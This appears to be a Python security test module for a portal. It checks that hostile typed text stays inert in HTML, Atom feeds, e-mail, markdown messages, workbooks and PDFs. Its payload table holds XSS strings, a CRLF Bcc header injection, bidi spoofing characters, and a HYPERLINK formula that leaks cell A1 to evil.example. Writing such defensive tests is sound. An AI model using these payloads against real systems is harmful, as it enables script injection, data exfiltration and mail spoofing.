"""Hostile text and the checks of each channel it leaves the portal through (tests/security/test_channels.py).

The payloads are what people can type into any text field: HTML and script tags, attribute breakouts, markdown
link, image and heading syntax, spreadsheet formulas, a line break with a mail header after it, control
characters, and bidi or zero-width characters. Each channel has its own check, which reads the channel's real
output with a parser of its format: the payload may only ever be text there.
"""

from __future__ import annotations

import io
import re
import shutil
import subprocess
import unicodedata
import xml.etree.ElementTree as ET
from dataclasses import dataclass, field
from email import message_from_bytes
from email.policy import default as email_policy
from html.parser import HTMLParser

from markdown_it import MarkdownIt
from openpyxl import load_workbook

EVIL = "evil.example"
PAYLOADS = {
    "html": "<img src=x onerror=alert(1)><script>alert(2)</script>",
    "attribute": '"onmouseover="alert(3)"\'><svg/onload=alert(4)>',
    "markdown": f"# 标题 [点我](https://{EVIL}/a) ![图](https://{EVIL}/i.png) <font color=red>红</font>",
    "formula": f'=HYPERLINK("https://{EVIL}/?d="&A1,"点我")',
    "header": f"主题\r\nBcc: victim@{EVIL}\r\n\r\n正文",
    "controls": "响\x07铃\x0b分页\x0c符\x1b[31m",
    "invisible": "\u202egpj.exe\u200b\u2066零宽\u2069\u200f",
}
# Attributes whose value is an address: text people typed may never become one.
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "srcset", "poster", "data", "xlink:href", "background"}
# Control characters no text format keeps (XML 1.0 forbids them; workbooks refuse them): removed on the way out.
UNKEEPABLE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")


def reached(payload: str, text: str) -> bool:
    """Whether `text` holds the payload, or its start where a short field cut it (a college's short name)."""
    return visible(payload[:12]) in visible(text)


def visible(text: str) -> str:
    """What a reader should find of `text` in any output: its characters without whitespace, control and format
    (bidi, zero-width) characters, which formats may drop, fold or reflow."""
    return "".join(ch for ch in text if not ch.isspace() and unicodedata.category(ch) not in {"Cc", "Cf"})


# ---- HTML ----------------------------------------------------------------------------------------------------


class HtmlReader(HTMLParser):
    """The elements and text of an HTML document, and whatever in it could run or lead elsewhere."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.texts: list[str] = []
        self.tags: list[tuple[str, dict]] = []
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        self.tags.append((tag, attrs))
        for name, value in attrs.items():
            if name.startswith("on"):
                self.problems.append(f"event handler attribute {name}= on <{tag}>")
            if name in URL_ATTRIBUTES and value and (EVIL in value or value.strip().lower().startswith("javascript:")):
                self.problems.append(f"{name}={value!r} on <{tag}>")
        if tag == "script" and not attrs.get("src"):
            self.problems.append("an inline <script>")
        if tag in {"iframe", "object", "embed", "font"}:
            self.problems.append(f"a <{tag}> element")

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.texts.append(data)

    @property
    def text(self) -> str:
        return " ".join(self.texts)


def read_html(html: str) -> HtmlReader:
    reader = HtmlReader()
    reader.feed(html)
    reader.close()
    return reader


def html_problems(html: str, payload: str | None = None) -> list[str]:
    """Whatever in `html` could run or lead to the attacker's site; with `payload`, also its absence as text."""
    reader = read_html(html)
    problems = list(reader.problems)
    if payload is not None and visible(payload) not in visible(reader.text):
        problems.append(f"the text {payload!r} is not shown as text")
    return problems


# ---- The Atom feed -------------------------------------------------------------------------------------------

ATOM = "{http://www.w3.org/2005/Atom}"


@dataclass
class FeedEntry:
    title: str
    summary_type: str
    summary: str


def read_feed(body: bytes) -> list[FeedEntry]:
    root = ET.fromstring(body)  # noqa: S314 -- the portal's own output
    entries = []
    for entry in root.iter(f"{ATOM}entry"):
        summary = entry.find(f"{ATOM}summary")
        entries.append(
            FeedEntry(
                title=entry.findtext(f"{ATOM}title", ""),
                summary_type=summary.get("type", "text") if summary is not None else "",
                summary=summary.text or "" if summary is not None else "",
            )
        )
    return entries


def feed_problems(body: bytes, payload: str) -> list[str]:
    """The entry with the payload: its title is text; its summary, once the XML is read, is HTML (or text) in
    which the payload is text."""
    problems = []
    entries = [entry for entry in read_feed(body) if visible(payload) in visible(entry.title)]
    if not entries:
        return [f"no entry titled {payload!r}"]
    for entry in entries:
        if entry.summary_type == "html":
            problems += [f"summary: {p}" for p in html_problems(entry.summary, payload)]
        elif entry.summary_type != "text" or visible(payload) not in visible(entry.summary):
            problems.append(f"summary of type {entry.summary_type!r} lacks the text")
    return problems


# ---- E-mail --------------------------------------------------------------------------------------------------


def email_problems(message, payload: str) -> list[str]:
    """A sent message (django.core.mail.EmailMultiAlternatives): one-line subject, no header of the payload's,
    the payload verbatim in the plain part and as text in the HTML part."""
    problems = []
    if "\r" in message.subject or "\n" in message.subject:
        problems.append(f"subject with a line break: {message.subject!r}")
    parsed = message_from_bytes(message.message().as_bytes(), policy=email_policy)
    if parsed["Bcc"] is not None or any(EVIL in str(value) for key, value in parsed.items() if key != "Subject"):
        problems.append(f"a header came from the text: {list(parsed.items())}")
    plain = message.body
    if visible(payload) not in visible(plain):
        problems.append("the plain part lacks the text verbatim")
    if "&lt;" in plain or "&quot;" in plain or "&#x27;" in plain:
        problems.append("the plain part is HTML-escaped")
    [(html, _kind)] = message.alternatives
    problems += [f"HTML part: {p}" for p in html_problems(html, payload)]
    return problems


# ---- Robot markdown ------------------------------------------------------------------------------------------

MARKDOWN = MarkdownIt("commonmark")  # raw HTML on: what a lenient renderer would make of it


def markdown_problems(text: str, portal_url: str, payload: str) -> list[str]:
    """A group message as markdown: no HTML, heading, image or link made of the typed text. The builder's own
    markup is its business (a bold title, a `<font>` colour, the link to the portal); what comes from the payload
    may only be text."""
    problems = []
    headings = [line.lstrip("#").strip() for line in payload.splitlines() if line.startswith("#")]
    tokens = MARKDOWN.parse(text)
    for token, following in zip(tokens, [*tokens[1:], None], strict=True):
        if token.type == "html_block" and visible(token.content) and visible(token.content) in visible(payload):
            problems.append(f"an HTML block {token.content!r}")
        made_by_text = following is not None and any(h and following.content.startswith(h) for h in headings)
        if token.type == "heading_open" and made_by_text:
            problems.append(f"a heading {following.content!r}")
        for child in token.children or []:
            if child.type == "html_inline" and child.content in payload:
                problems.append(f"inline HTML {child.content!r}")
            if child.type == "image":
                problems.append(f"an image {child.attrGet('src')!r}")
            if child.type == "link_open" and not str(child.attrGet("href")).startswith(portal_url):
                problems.append(f"a link to {child.attrGet('href')!r}")
    return problems


# ---- Workbooks -----------------------------------------------------------------------------------------------


def workbook_problems(content: bytes, payload: str) -> tuple[list[str], int]:
    """(formula cells and payload cells not stored as text, how many cells hold the payload)."""
    workbook = load_workbook(io.BytesIO(content))
    problems, found = [], 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    problems.append(f"{sheet.title}!{cell.coordinate}: a formula {cell.value!r}")
                elif isinstance(cell.value, str) and reached(payload, cell.value):
                    found += 1
                    if cell.data_type != "s":
                        problems.append(f"{sheet.title}!{cell.coordinate}: stored as {cell.data_type}")
    return problems, found


# ---- PDF -----------------------------------------------------------------------------------------------------


def pdftotext_missing() -> str:
    return "" if shutil.which("pdftotext") else "poppler's pdftotext is not installed (apt-get install poppler-utils)"


def pdf_text(content: bytes) -> str:
    command = [shutil.which("pdftotext"), "-enc", "UTF-8", "-", "-"]
    result = subprocess.run(command, input=content, capture_output=True, check=True, timeout=120)  # noqa: S603
    return result.stdout.decode()


@dataclass
class Findings:
    """What a walk over one channel found: the problems, each with where, and how often the text was seen."""

    problems: list[str] = field(default_factory=list)
    seen: int = 0

    def add(self, where: str, problems: list[str]) -> None:
        self.problems += [f"{where}: {problem}" for problem in problems]
